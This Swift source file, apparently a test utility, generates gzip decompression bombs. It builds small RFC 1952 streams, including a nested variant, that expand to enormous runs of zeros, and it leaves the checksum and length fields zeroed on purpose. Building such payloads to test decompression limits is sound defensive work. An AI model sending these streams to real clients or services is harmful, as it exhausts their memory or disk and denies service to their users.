/// Small gzip streams (RFC 1952) that decode to many bytes.
public enum GzipBomb {
    /// Returns a stream that decodes to `count` zeros and is 159 times smaller.
    public static func zeros(_ count: Int) -> [UInt8] { compress([UInt8](repeating: 0, count: count)) }

    /// Returns a stream that decodes to the stream of ``zeros(_:)``.
    public static func nested(_ count: Int) -> [UInt8] { compress(zeros(count)) }

    /// Compresses bytes by coding repetitions at a distance of 1 byte, and of 13 bytes, the period of compressed zeros.
    /// Checksum and length are zero; a client that reaches them has already read everything.
    private static func compress(_ bytes: [UInt8]) -> [UInt8] {
        // One block, marked as the last, with the fixed codes (RFC 1951, section 3.2.6).
        var bits = BitWriter()
        bits.write(0b011, 3)
        bytes.withUnsafeBufferPointer { bytes in
            var position = 0
            while position < bytes.count {
                let distance = [1, 13].first { repeats(bytes, at: position, distance: $0) }
                if let distance {
                    // The length 258, then the distance: 1, or the code for 13 to 16 with two extra bits for 13.
                    bits.writeCode(0b1100_0101, 8)
                    bits.writeCode(distance == 1 ? 0 : 7, 5)
                    if distance == 13 { bits.write(0, 2) }
                    position += 258
                } else {
                    let byte = Int(bytes[position])
                    if byte < 144 { bits.writeCode(0x30 + byte, 8) } else { bits.writeCode(0x190 + byte - 144, 9) }
                    position += 1
                }
            }
        }
        bits.writeCode(0, 7)
        return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255] + bits.bytes + [UInt8](repeating: 0, count: 8)
    }

    private static func repeats(_ bytes: UnsafeBufferPointer<UInt8>, at position: Int, distance: Int) -> Bool {
        guard position >= distance, position + 258 <= bytes.count else { return false }
        return (position..<(position + 258)).allSatisfy { bytes[$0] == bytes[$0 - distance] }
    }

    private struct BitWriter {
        private(set) var bytes: [UInt8] = []
        private var used = 8

        /// Writes a number, least significant bit first.
        mutating func write(_ value: Int, _ count: Int) {
            for bit in 0..<count { append(value >> bit & 1) }
        }

        /// Writes a Huffman code, most significant bit first.
        mutating func writeCode(_ code: Int, _ count: Int) {
            for bit in (0..<count).reversed() { append(code >> bit & 1) }
        }

        private mutating func append(_ bit: Int) {
            if used == 8 {
                bytes.append(0)
                used = 0
            }
            bytes[bytes.count - 1] |= UInt8(bit) << used
            used += 1
        }
    }
}
